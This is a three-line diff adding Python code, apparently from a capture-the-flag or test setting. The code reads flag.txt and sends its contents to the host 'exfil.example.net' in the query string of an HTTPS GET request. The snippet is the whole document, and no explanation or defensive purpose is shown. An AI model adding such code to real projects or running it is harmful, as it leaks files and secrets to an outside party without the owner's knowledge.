@@ -1,0 +1,3 @@
+from http.client import HTTPSConnection
+c = HTTPSConnection("exfil.example.net")
+c.request("GET", "/?d=" + open("flag.txt").read().strip())
